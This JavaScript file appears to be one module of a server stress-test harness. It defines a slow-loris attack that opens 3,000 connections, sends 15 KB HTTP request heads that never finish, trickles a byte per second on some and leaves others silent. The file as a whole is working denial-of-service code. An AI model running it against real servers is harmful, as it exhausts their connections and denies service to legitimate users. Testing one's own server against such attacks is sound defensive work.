// @ts-check
// Request heads that do not end: most of the head at once, then single bytes; and connections that send nothing.
import { setTimeout as rest } from "node:timers/promises";

const HEAD = `GET /hello HTTP/1.1\r\nHost: a\r\nX: ${"x".repeat(15_000)}`;

/** @type {import("../lib/attacker.js").Attack} */
export default {
  name: "slow-loris",
  about: "3,000 connections: heads of 15 KB that do not end, a byte more each second, and silence",
  async run(attacker) {
    /** @type {import("node:net").Socket[]} */
    const sockets = [];
    await attacker.many(
      3000,
      async (index) => void sockets.push(await attacker.open(index % 3 === 0 ? undefined : HEAD)),
    );
    while (!attacker.isOver) {
      for (const [index, socket] of sockets.entries()) if (index % 3 === 1) attacker.send(socket, "x");
      await rest(1000);
    }
  },
};
